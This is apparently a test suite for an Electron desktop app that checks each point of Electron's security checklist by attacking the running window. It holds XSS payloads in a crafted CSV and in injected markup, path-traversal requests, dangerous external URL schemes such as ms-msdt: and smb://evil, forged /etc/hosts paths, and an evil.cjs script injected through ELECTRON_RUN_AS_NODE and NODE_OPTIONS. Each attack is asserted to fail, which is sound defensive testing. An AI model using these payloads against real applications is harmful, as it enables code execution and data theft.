/**
 * Electron's security checklist (https://www.electronjs.org/docs/latest/tutorial/security), point by point and by its
 * numbers: each with the attack that the point is about, on the window as it runs.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { temporaryFolder } from '../support/folder.ts';
import { binary, type Desktop, describeDesktop, launchDesktop, root } from './support/desktop.ts';
import { burntFuses, configuredFuses, fusedRuntime } from './support/fuses.ts';
import {
  chooseDefinition,
  eventually,
  goTo,
  STEPS,
  verdict,
  workshopIsOpen,
  workshopMenu,
} from './support/room.ts';
import { canSandbox, sandboxed, systemCalls } from './support/sandbox.ts';

const PRELOAD = join(root, 'dist', 'preload', 'preload.cjs');
const OWN_PAGE = 'app://yardstick/index.html';

/** What every attack tries to leave behind in the page. */
const isTaken = (page: Page) => page.evaluate(() => 'taken' in window);

describeDesktop('Electron’s security checklist', () => {
  const folder = mkdtempSync(join(tmpdir(), 'yardstick-test-'));
  let desktop: Desktop;
  let page: Page;
  /** A site that an attacker would send data to, or fetch a script from. */
  let site: Server;
  let address: string;
  const visits: string[] = [];

  beforeAll(async () => {
    site = createServer(({ url }, response) => {
      visits.push(url ?? '');
      response.setHeader('Access-Control-Allow-Origin', '*').end('window.taken = true');
    });
    site.on('connection', () => visits.push('connection'));
    await new Promise<void>((listening) => site.listen(0, '127.0.0.1', listening));
    address = `127.0.0.1:${(site.address() as AddressInfo).port}`;
    desktop = await launchDesktop({
      dataFolder: join(folder, 'data'),
      ...sandboxed(folder),
      switches: ['--use-fake-device-for-media-stream'],
    });
    page = desktop.page;
  });
  afterAll(async () => {
    await desktop?.kill();
    site.close();
    rmSync(folder, { recursive: true, force: true });
  });

  /** After an attack the window is as it was: one window, our page, the workshop, and nothing of the attacker's. */
  async function expectUnharmed() {
    expect(page.url().startsWith(OWN_PAGE)).toBe(true);
    expect(await verdict(page).isVisible()).toBe(true);
    expect(await isTaken(page)).toBe(false);
    const windows = await desktop.app.evaluate(({ webContents }) => webContents.getAllWebContents().length);
    expect(windows).toBe(1);
    expect(visits).toEqual([]);
  }

  /** What the running window was given, as Electron tells it. */
  const preferences = () =>
    desktop.app.evaluate(({ BrowserWindow }) => {
      const { webContents } = BrowserWindow.getAllWindows()[0]!;
      return (
        webContents as unknown as { getLastWebPreferences(): Record<string, unknown> }
      ).getLastWebPreferences();
    });

  test('1. only secure content is loaded: nothing comes from a network, by whatever way it is asked for', async () => {
    const refused = await page.evaluate(async (host) => {
      const socket = (scheme: string) =>
        new Promise<boolean>((settled) => {
          try {
            const opened = new WebSocket(`${scheme}://${host}/socket`);
            opened.onopen = () => settled(false);
            opened.onerror = () => settled(true);
          } catch {
            settled(true);
          }
        });
      const loaded = (element: HTMLElement) =>
        new Promise<boolean>((settled) => {
          element.onload = () => settled(false);
          element.onerror = () => settled(true);
          document.head.append(element);
        });
      const fetched = (scheme: string) =>
        fetch(`${scheme}://${host}/data`, { method: 'POST', body: 'deals' }).then(
          () => false,
          () => true,
        );
      const style = Object.assign(document.createElement('link'), { rel: 'stylesheet' });
      style.href = `http://${host}/style.css`;
      navigator.sendBeacon(`http://${host}/beacon`, 'deals');
      const picture = Object.assign(new Image(), { src: `http://${host}/picture.png?deals` });
      return Promise.all([
        fetched('http'),
        fetched('https'),
        socket('ws'),
        socket('wss'),
        loaded(style),
        loaded(picture),
      ]);
    }, address);
    expect(refused).toEqual([true, true, true, true, true, true]);

    // The content policy is one wall; what is not the page, and knows no policy, meets the other.
    const answers = await desktop.app.evaluate(async ({ session }, host) => {
      const sessions = [session.defaultSession, session.fromPartition('an attacker’s own')];
      return Promise.all(
        sessions.map((each) =>
          each.fetch(`http://${host}/from-main`).then(
            () => 'answered',
            (error: Error) => error.message,
          ),
        ),
      );
    }, address);
    expect(answers).toEqual(['net::ERR_BLOCKED_BY_CLIENT', 'net::ERR_BLOCKED_BY_CLIENT']);
    await expectUnharmed();
  });

  test('2. no Node in the page, in its workers or in frames within it', async () => {
    const nodeIn = () =>
      ['require', 'process', 'module', 'Buffer', 'global'].filter((name) => name in globalThis);
    expect(await page.evaluate(nodeIn)).toEqual([]);
    await eventually(() => page.workers().length).toBeGreaterThan(0);
    for (const worker of page.workers()) expect(await worker.evaluate(nodeIn), worker.url()).toEqual([]);
    const frame = await frameWithin(page);
    expect(await frame.evaluate(nodeIn)).toEqual([]);
    expect(await frame.evaluate(() => 'api' in window)).toBe(false);
    await removeFrames(page);
    expect(await preferences()).toMatchObject({ nodeIntegration: false, nodeIntegrationInSubFrames: false });
  });

  test('3. the page can’t reach into the world of the preload', async () => {
    const caught = await page.evaluate(async () => {
      const got: string[] = [];
      const { call, apply } = Function.prototype;
      const { push } = Array.prototype;
      const note = (value: unknown) => {
        if (typeof value === 'object' && value !== null && 'invoke' in value) got.push('ipcRenderer');
      };
      // Whatever the bridge does by these, it would do by ours, were it in the same world.
      Function.prototype.call = function (this: () => unknown, ...args) {
        note(args[0]);
        return Reflect.apply(this, args[0], args.slice(1));
      };
      Array.prototype.push = function (...items) {
        items.forEach(note);
        return Reflect.apply(push, this, items);
      };
      Object.defineProperty(Object.prototype, 'method', { set: note, configurable: true });
      try {
        await window.api!.methods['workshop.current']({}, 'attack');
        const made = window.api!.cancel.constructor;
        try {
          if (made('return typeof process')() !== 'undefined') got.push('process');
        } catch {
          // The content policy lets nothing be made from text.
        }
        if (made !== Function) got.push('another world’s Function');
      } finally {
        Object.assign(Function.prototype, { call, apply });
        Array.prototype.push = push;
        Reflect.deleteProperty(Object.prototype, 'method');
      }
      return got;
    });
    expect(caught).toEqual([]);
    const changed = await page.evaluate(() => {
      try {
        Object.assign(window.api!, { cancel: () => 'mine' });
      } catch {
        // It is frozen.
      }
      return String(window.api!.cancel('none'));
    });
    expect(changed).not.toBe('mine');
    expect(await preferences()).toMatchObject({ contextIsolation: true });
  });

  describe('4. the page’s process is sandboxed', () => {
    test('even in the preload’s own world there is no Node', async () => {
      const found = await desktop.app.evaluate(({ BrowserWindow }) => {
        const PRELOADS_WORLD = 999;
        const code = `['require', 'process', 'Buffer', 'global'].filter((name) => name in globalThis)`;
        return BrowserWindow.getAllWindows()[0]!.webContents.executeJavaScriptInIsolatedWorld(
          PRELOADS_WORLD,
          [{ code }],
        );
      });
      expect(found).toEqual([]);
      expect(await preferences()).toMatchObject({ sandbox: true });
    });

    test.skipIf(process.platform !== 'linux' || !canSandbox)(
      'and the system checks each of its calls (where this machine has a sandbox)',
      async () => {
        const pid = await desktop.app.evaluate(({ BrowserWindow }) =>
          BrowserWindow.getAllWindows()[0]!.webContents.getOSProcessId(),
        );
        expect(systemCalls(pid)).toBe('filtered');
      },
    );
  });

  test('5. every permission is denied, asked for or taken', async () => {
    const answers = await page.evaluate(async () => {
      const outcome = (asked: Promise<unknown>) =>
        asked.then(
          (got) => (Array.isArray(got) && got.length === 0 ? 'nothing' : `granted: ${String(got)}`),
          (error: Error) => error.name,
        );
      type Devices = Record<
        'hid' | 'serial' | 'usb' | 'bluetooth',
        { getDevices?(): Promise<unknown[]>; getPorts?(): Promise<unknown[]> } | undefined
      >;
      const { hid, serial, usb } = navigator as unknown as Devices;
      return {
        notifications: await Notification.requestPermission(),
        location: await new Promise<string>((settled) =>
          navigator.geolocation.getCurrentPosition(
            () => settled('granted'),
            ({ code, PERMISSION_DENIED }) => settled(code === PERMISSION_DENIED ? 'denied' : String(code)),
          ),
        ),
        camera: await outcome(navigator.mediaDevices.getUserMedia({ video: true })),
        microphone: await outcome(navigator.mediaDevices.getUserMedia({ audio: true })),
        screen: await outcome(navigator.mediaDevices.getDisplayMedia({ video: true })),
        clipboard: await outcome(navigator.clipboard.readText()),
        midi: await outcome(navigator.requestMIDIAccess({ sysex: true })),
        hid: await outcome(Promise.resolve(hid?.getDevices?.() ?? [])),
        usb: await outcome(Promise.resolve(usb?.getDevices?.() ?? [])),
        serial: await outcome(Promise.resolve(serial?.getPorts?.() ?? [])),
      };
    });
    expect(answers).toEqual({
      notifications: 'denied',
      location: 'denied',
      camera: 'NotAllowedError',
      microphone: 'NotAllowedError',
      screen: expect.stringMatching(/Error$/),
      clipboard: 'NotAllowedError',
      midi: expect.stringMatching(/Error$/),
      hid: 'nothing',
      usb: 'nothing',
      serial: 'nothing',
    });
    const states = await page.evaluate(() =>
      Promise.all(
        [
          'geolocation',
          'notifications',
          'camera',
          'microphone',
          'midi',
          'clipboard-read',
          'persistent-storage',
        ].map(async (name) => (await navigator.permissions.query({ name: name as PermissionName })).state),
      ),
    );
    expect(new Set(states)).toEqual(new Set(['denied']));
  });

  test('6. web security is on: another origin’s files and the disk’s stay closed', async () => {
    const secret = join(folder, 'secret.js');
    writeFileSync(secret, 'window.taken = true');
    const refused = await page.evaluate(async (file) => {
      const outcome = (url: string) =>
        fetch(url).then(
          () => 'read',
          () => 'refused',
        );
      const script = Object.assign(document.createElement('script'), { src: file });
      const ran = new Promise<string>((settled) => {
        script.onload = () => settled('ran');
        script.onerror = () => settled('refused');
      });
      document.head.append(script);
      return Promise.all([outcome(file), outcome('app://elsewhere/index.html'), ran]);
    }, `file://${secret}`);
    expect(refused).toEqual(['refused', 'refused', 'refused']);
    expect(await preferences()).toMatchObject({ webSecurity: true });
    await expectUnharmed();
  });

  describe('7. the content policy', () => {
    test('runs no script that somebody wrote into an export: it is text in the window', async () => {
      const path = join(folder, 'hostile.csv');
      const attacks = [
        '<script>window.taken=true</script>',
        '<img src=x onerror=window.taken=true>',
        '<svg onload=window.taken=true>',
        'javascript:window.taken=true',
        '"><iframe srcdoc="<script>parent.taken=true</script>">',
        '{{constructor.constructor("window.taken=true")()}}',
      ];
      const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
      const rows = Array.from({ length: 60 }, (_, i) => {
        const attack = attacks[i % attacks.length]!;
        return [
          String(i),
          quoted(attack),
          quoted(attack),
          quoted(attack),
          i % 3 ? 'Lost' : 'Won',
          String(i),
        ].join(',');
      });
      const header = ['Deal ID', 'Company', quoted(`Title ${attacks[1]}`), 'Source', 'Status', 'Amount'];
      writeFileSync(path, [header.join(','), ...rows].join('\n'));
      await desktop.answerDialog(join(folder, 'hostile.yardstick'));
      await workshopMenu(page, 'New workshop…');
      await page.getByText('No deals yet').waitFor();
      await desktop.answerDialog(path);
      await page.getByRole('button', { name: 'Choose files…' }).click();
      await page.getByText(attacks[0]!).first().waitFor();
      await page.getByRole('button', { name: 'Import 60 rows' }).click();
      await page.getByText('60 rows = 60 deals').waitFor();
      for (const step of STEPS) {
        await goTo(page, step);
        expect(await page.getByRole('alert').allInnerTexts(), step).toEqual([]);
        const planted = await page.evaluate(() => {
          const frames = [...document.querySelectorAll('iframe')].flatMap(
            (frame) => frame.contentDocument ?? [],
          );
          const markup =
            'img[src=x], iframe iframe, [onload], [onerror], a[href^=javascript], script:not([src])';
          return [document, ...frames].flatMap((each) =>
            [...each.querySelectorAll(markup)].map((e) => e.outerHTML),
          );
        });
        expect(planted, step).toEqual([]);
      }
      await workshopMenu(page, 'Start a fresh sample workshop');
      await chooseDefinition(page, 'Today');
      await expectUnharmed();
    });

    test('would run it no more if it got into the page as markup', async () => {
      await page.evaluate(() => {
        const place = document.createElement('div');
        place.id = 'attack';
        document.body.append(place);
        place.innerHTML =
          '<img src="x:" onerror="window.taken=true"><svg onload="window.taken=true"></svg>' +
          '<a href="javascript:window.taken=true">a link</a><iframe src="javascript:parent.taken=true"></iframe>' +
          '<iframe srcdoc="&lt;script&gt;parent.taken=true&lt;/script&gt;"></iframe>' +
          '<object data="javascript:taken=true"></object><base href="http://evil.example/">';
        for (const inline of ['window.taken = true', 'eval("window.taken = true")']) {
          const script = document.createElement('script');
          script.textContent = inline;
          place.append(script);
        }
        const data = document.createElement('script');
        data.src = 'data:text/javascript,window.taken=true';
        place.append(data);
        const blob = document.createElement('script');
        blob.src = URL.createObjectURL(new Blob(['window.taken = true'], { type: 'text/javascript' }));
        place.append(blob);
        place.querySelector('a')!.click();
      });
      await page.waitForFunction(() => document.readyState === 'complete');
      expect(await page.evaluate(() => document.baseURI)).toMatch(/^app:\/\/yardstick\//);
      await page.evaluate(() => document.getElementById('attack')!.remove());
      await expectUnharmed();
    });
  });

  test('8. no insecure content is let in beside secure content', async () => {
    const ran = await page.evaluate(
      (host) =>
        new Promise<boolean>((settled) => {
          const script = Object.assign(document.createElement('script'), { src: `http://${host}/mixed.js` });
          script.onload = () => settled(true);
          script.onerror = () => settled(false);
          document.head.append(script);
        }),
      address,
    );
    expect(ran).toBe(false);
    expect(await preferences()).toMatchObject({ allowRunningInsecureContent: false });
    await expectUnharmed();
  });

  test('9. no experimental features are on', async () => {
    expect(await preferences()).toMatchObject({ experimentalFeatures: false });
    const switches = await desktop.app.evaluate(({ app }) =>
      ['enable-experimental-web-platform-features', 'enable-features', 'js-flags'].filter((name) =>
        app.commandLine.hasSwitch(name),
      ),
    );
    expect(switches).toEqual([]);
  });

  test('10. no features of Blink are switched on', async () => {
    expect(String((await preferences()).enableBlinkFeatures ?? '')).toBe('');
    expect(await desktop.app.evaluate(({ app }) => app.commandLine.hasSwitch('enable-blink-features'))).toBe(
      false,
    );
  });

  test('11. a webview that may open windows is no webview at all', async () => {
    await page.evaluate((host) => {
      const view = document.createElement('webview');
      view.setAttribute('src', `http://${host}/webview`);
      view.setAttribute('allowpopups', '');
      view.setAttribute('nodeintegration', '');
      document.body.append(view);
    }, address);
    expect(
      await page.evaluate(
        () => typeof (document.querySelector('webview') as { getURL?: unknown } | null)?.getURL,
      ),
    ).toBe('undefined');
    await page.evaluate(() => document.querySelector('webview')!.remove());
    expect(await preferences()).toMatchObject({ webviewTag: false });
    await expectUnharmed();
  });

  test('12. a webview is refused before it is made, even in a window that would have them', async () => {
    const guests = await desktop.app.evaluate(async ({ BrowserWindow, webContents }, own) => {
      const window = new BrowserWindow({ show: false, webPreferences: { webviewTag: true } });
      await window.loadURL(own);
      await window.webContents.executeJavaScript(`new Promise((settled) => {
        const view = document.createElement('webview');
        view.setAttribute('src', '${own}');
        view.setAttribute('preload', 'file:///etc/hosts');
        view.setAttribute('nodeintegration', '');
        view.addEventListener('dom-ready', () => settled());
        document.body.append(view);
        // A webview that is let in is ready before the next page of the same window would be.
        fetch('index.html').then(() => fetch('index.html')).then(() => settled());
      })`);
      const found = webContents.getAllWebContents().filter((each) => each.getType() === 'webview').length;
      window.destroy();
      return found;
    }, OWN_PAGE);
    expect(guests).toBe(0);
    await expectUnharmed();
  });

  test('13. the window goes to no other page', async () => {
    // What gets as far as the main process, and whether it was stopped there.
    await desktop.app.evaluate(({ BrowserWindow }) => {
      const attempts: Record<string, boolean> = {};
      Object.assign(globalThis, { attempts });
      BrowserWindow.getAllWindows()[0]!.webContents.on('will-navigate', (event) => {
        attempts[event.url] = event.defaultPrevented;
      });
    });
    const stopped = (target: string) =>
      desktop.app.evaluate(
        (_, url) => (globalThis as unknown as { attempts: Record<string, boolean> }).attempts[url],
        target,
      );
    const goesTo = (target: string, by: 'link' | 'form' | 'script' | 'refresh') =>
      page.evaluate(
        ([url, way]) => {
          const link = Object.assign(document.createElement('a'), { href: url });
          const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
          const meta = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh' });
          meta.content = `0;url=${url}`;
          document.head.append(link, form);
          if (way === 'link') link.click();
          if (way === 'form') form.submit();
          if (way === 'script') window.location.assign(url);
          if (way === 'refresh') document.head.append(meta);
        },
        [target, by] as const,
      );

    for (const [target, by] of [
      [`http://${address}/link`, 'link'],
      ['https://example.com/', 'script'],
      [`http://${address}/refresh`, 'refresh'],
      ['app://elsewhere/index.html', 'script'],
    ] as const) {
      await goesTo(target, by);
      await eventually(() => stopped(target)).toBe(true);
    }
    // These end in the page already: by the content policy, or because Chromium has them no more.
    for (const [target, by] of [
      [`http://${address}/form`, 'form'],
      [`file://${join(folder, 'secret.js')}`, 'link'],
      ['data:text/html,<script>window.taken=true</script>', 'link'],
      ['javascript:void(window.taken = true)', 'link'],
      ['javascript:void(window.taken = true)', 'script'],
    ] as const) {
      await goesTo(target, by);
      expect(await stopped(target), target).toBe(undefined);
    }
    await expectUnharmed();
    await page.reload();
    await workshopIsOpen(page);
  });

  test('14. no second window opens', async () => {
    await desktop.app.evaluate(({ dialog }) => {
      dialog.showMessageBox = async () => ({ response: 1, checkboxChecked: false });
    });
    const opened = await page.evaluate(
      (targets) => targets.filter((target) => window.open(target, '_blank', 'nodeIntegration=yes') !== null),
      [
        OWN_PAGE,
        'about:blank',
        'https://example.com/',
        `http://${address}/window`,
        'javascript:taken=true',
        'blob:app://yardstick/x',
      ],
    );
    expect(opened).toEqual([]);
    await page.evaluate((to) => {
      const link = Object.assign(document.createElement('a'), { href: to, target: '_blank' });
      document.body.append(link);
      link.click();
      link.remove();
    }, OWN_PAGE);
    await expectUnharmed();
  });

  test('15. nothing is handed to the system but an address that a person was asked about', async () => {
    await desktop.app.evaluate(({ dialog, shell }) => {
      const asked: string[] = [];
      const opened: string[] = [];
      const answers: ((response: number) => void)[] = [];
      Object.assign(globalThis, { asked, opened, answers });
      shell.openExternal = async (url) => {
        opened.push(url);
      };
      dialog.showMessageBox = async (...given: unknown[]) => {
        asked.push((given.at(-1) as { detail: string }).detail);
        const response = await new Promise<number>((answer) => answers.push(answer));
        return { response, checkboxChecked: false };
      };
    });
    const told = () =>
      desktop.app.evaluate(() => {
        const { asked, opened } = globalThis as unknown as Record<'asked' | 'opened', string[]>;
        return { asked, opened };
      });
    const answer = (response: number) =>
      desktop.app.evaluate((_, given) => {
        (globalThis as unknown as { answers: ((r: number) => void)[] }).answers.shift()!(given);
      }, response);
    const open = (...targets: string[]) =>
      page.evaluate((all) => {
        for (const target of all) window.open(target);
      }, targets);

    await open(
      'file:///bin/sh',
      'smb://evil/share',
      'ms-msdt:/id',
      'http://evil.example/',
      'mailto:a@b.c',
      'ssh://evil',
      'javascript:1',
    );
    expect(await told()).toEqual({ asked: [], opened: [] });

    const link = 'https://example.com/a?b=c';
    await open(...Array.from({ length: 50 }, (_, i) => `${link}${i}`));
    await eventually(told).toEqual({ asked: [`${link}0`], opened: [] });
    await answer(1);
    await open(`${link}1`);
    await eventually(told).toEqual({ asked: [`${link}0`, `${link}1`], opened: [] });
    await answer(0);
    await eventually(told).toEqual({ asked: [`${link}0`, `${link}1`], opened: [`${link}1`] });
    await expectUnharmed();
  });

  test('17. who calls is looked at each time: no other page and no frame gets an answer', async () => {
    const attack = `(async () => [
      (await window.api.methods['workshop.current']({}, 'attack')).ok,
      await window.api.choose('exportPdf', 'deals'),
    ])()`;
    const answers = await desktop.app.evaluate(
      async ({ BrowserWindow }, { preload, own, code }) => {
        const webPreferences = { preload, sandbox: true, nodeIntegrationInSubFrames: true };
        const fromOthers: unknown[] = [];
        for (const url of ['data:text/html,<title>not ours</title>', 'about:blank']) {
          const other = new BrowserWindow({ show: false, webPreferences });
          await other.loadURL(url);
          fromOthers.push(await other.webContents.executeJavaScript(code));
          other.destroy();
        }

        const ours = new BrowserWindow({ show: false, webPreferences });
        await ours.loadURL(own);
        const { mainFrame } = ours.webContents;
        await mainFrame.executeJavaScript(`new Promise((settled) => {
          const frame = document.createElement('iframe');
          frame.srcdoc = 'a frame';
          frame.onload = () => settled();
          document.body.append(frame);
        })`);
        const fromFrame = await mainFrame.frames[0]!.executeJavaScript(code);
        const { ok: fromOurs } = (await mainFrame.executeJavaScript(
          `window.api.methods['workshop.current']({}, 'control')`,
        )) as { ok: boolean };
        ours.destroy();
        return { fromOthers, fromFrame, fromOurs };
      },
      { preload: PRELOAD, own: OWN_PAGE, code: attack },
    );
    expect(answers).toEqual({
      fromOthers: [
        [false, null],
        [false, null],
      ],
      fromFrame: [false, null],
      fromOurs: true,
    });
  });

  test('18. the page comes by app:// and not by file://, and app:// leads out of no folder', async () => {
    expect(page.url()).toMatch(/^app:\/\/yardstick\//);
    const served = await page.evaluate(
      async (paths) => {
        const found: string[] = [];
        for (const path of paths) {
          const reply = await fetch(path).catch(() => null);
          if (reply?.ok) found.push(path);
        }
        return found;
      },
      [
        'index.html',
        '/../../package.json',
        '/../main/main.cjs',
        '/%2e%2e/main/main.cjs',
        '/..%2fpreload/preload.cjs',
        '/assets/..%5c..%5cmain.js',
        '/index.html%00.js',
        `/${encodeURIComponent(join(root, 'vitest.config.js'))}`,
      ],
    );
    expect(served).toEqual(['index.html']);
    const posted = await page.evaluate(() => fetch('index.html', { method: 'POST' }).then(({ ok }) => ok));
    expect(posted).toBe(false);
  });

  test('20. the page is given named methods, and nothing of Electron', async () => {
    const given = await page.evaluate(() => ({
      top: Object.keys(window.api!).sort(),
      methods: Object.keys(window.api!.methods),
      other: Object.keys(window).filter((name) => /electron|ipc|node/i.test(name)),
    }));
    expect(given.top).toEqual(['cancel', 'choose', 'door', 'dropped', 'methods', 'onCommand', 'onProgress']);
    for (const name of given.methods) expect(name).toMatch(/^[a-z]+\.[a-zA-Z]+$/);
    expect(given.other).toEqual([]);

    // A listener is told what there is to know, and not by whom.
    await page.evaluate(() => {
      Object.assign(window, { heard: null });
      window.api!.onCommand((...said: unknown[]) => Object.assign(window, { heard: said }));
    });
    await desktop.app.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows()[0]!.webContents.send('yardstick:command', 'help'),
    );
    await eventually(() => page.evaluate(() => (window as unknown as { heard: unknown }).heard)).toEqual([
      'help',
    ]);
    await page.keyboard.press('Escape');

    // A page names no path: only a file that a person dropped has one.
    const handles = await page.evaluate(async () => {
      const real = new File(['x'], 'deals.csv');
      Object.defineProperty(real, 'path', { value: '/etc/hosts' });
      const forged = {
        name: 'deals.csv',
        path: '/etc/hosts',
        arrayBuffer: () => {},
        [Symbol.toStringTag]: 'File',
      };
      return Promise.all(
        [real, forged, '/etc/hosts', { path: '/etc/hosts' }].map((file) =>
          window.api!.dropped(file as File).then(
            () => 'a place',
            () => 'refused',
          ),
        ),
      );
    });
    expect(handles).toEqual(['refused', 'refused', 'refused', 'refused']);
    await page.evaluate(() => {
      const field = Object.assign(document.createElement('input'), { type: 'file', id: 'chooses' });
      document.body.append(field);
    });
    await page.locator('#chooses').setInputFiles(join(root, 'package.json'));
    const chosen = await page.evaluate(() => {
      const field = document.getElementById('chooses') as HTMLInputElement;
      field.remove();
      return window.api!.dropped(field.files![0]!);
    });
    expect(chosen.name).toBe('package.json');
    const named = await page.evaluate(() =>
      window.api!.methods['workshop.open']({ place: '/etc/hosts' as never }, 'attack'),
    );
    expect(named).toMatchObject({ ok: false });
  });
});

describeDesktop('Electron’s security checklist, of what is shipped', () => {
  test('19. the runtime’s back doors are burnt shut', async () => {
    const folder = temporaryFolder();
    const evil = join(folder, 'evil.cjs');
    const took = join(folder, 'taken');
    writeFileSync(evil, `require('node:fs').writeFileSync(${JSON.stringify(took)}, '')`);
    /** Has the runtime run a script of the attacker's instead of, or before, its app; tells by which way it did. */
    const taken = (runtime: string) => {
      const ways: Record<string, NodeJS.ProcessEnv> = {
        'as Node': { ELECTRON_RUN_AS_NODE: '1' },
        'by an option for Node': { NODE_OPTIONS: `--require ${evil}` },
      };
      return Object.keys(ways).filter((way) => {
        rmSync(took, { force: true });
        const script = way === 'as Node' ? [evil] : [];
        // Whoever is not taken in is asked for its version only, and ends.
        spawnSync(runtime, [...script, '--no-sandbox', '--version'], {
          env: { ...process.env, ...ways[way] },
        });
        return existsSync(took);
      });
    };
    // As it comes, a runtime lets both in, so that this is a test.
    expect(taken(binary!)).toEqual(['as Node', 'by an option for Node']);
    const fused = await fusedRuntime(join(folder, 'runtime'));
    expect(taken(fused)).toEqual([]);
    expect(await burntFuses(fused)).toEqual(
      expect.objectContaining({
        runAsNode: false,
        enableNodeOptionsEnvironmentVariable: false,
        enableNodeCliInspectArguments: false,
        onlyLoadAppFromAsar: true,
      }),
    );
    expect(configuredFuses()).toMatchObject({
      enableCookieEncryption: true,
      enableEmbeddedAsarIntegrityValidation: true,
      grantFileProtocolExtraPrivileges: false,
    });
  });
});

test('16. the Electron that is shipped is a current one, the same for everybody', () => {
  const read = (path: string) => JSON.parse(readFileSync(join(root, path), 'utf8'));
  const pinned: string = read('package.json').devDependencies.electron;
  expect(pinned).toMatch(/^\d+\.\d+\.\d+$/);
  // Raised with each update, so that no merge takes an old one, and its holes, back in.
  expect(Number(pinned.split('.')[0])).toBeGreaterThanOrEqual(45);
  const locked = read('package-lock.json').packages['node_modules/electron'];
  expect(locked).toMatchObject({ version: pinned, integrity: expect.stringMatching(/^sha512-/) });
  // The builder takes the one of the package, and no other.
  expect(readFileSync(join(root, 'electron-builder.yml'), 'utf8')).not.toMatch(
    /^electron(Version|Dist|Download)/m,
  );
});

/** A frame of the page's own making within it. */
async function frameWithin(page: Page): Promise<Frame> {
  await page.evaluate(
    () =>
      new Promise<void>((settled) => {
        const frame = document.createElement('iframe');
        frame.className = 'attack';
        frame.srcdoc = 'a frame';
        frame.onload = () => settled();
        document.body.append(frame);
      }),
  );
  return page.frames().find((frame) => frame.url() === 'about:srcdoc')!;
}

const removeFrames = (page: Page) =>
  page.evaluate(() => {
    for (const frame of document.querySelectorAll('iframe.attack')) frame.remove();
  });
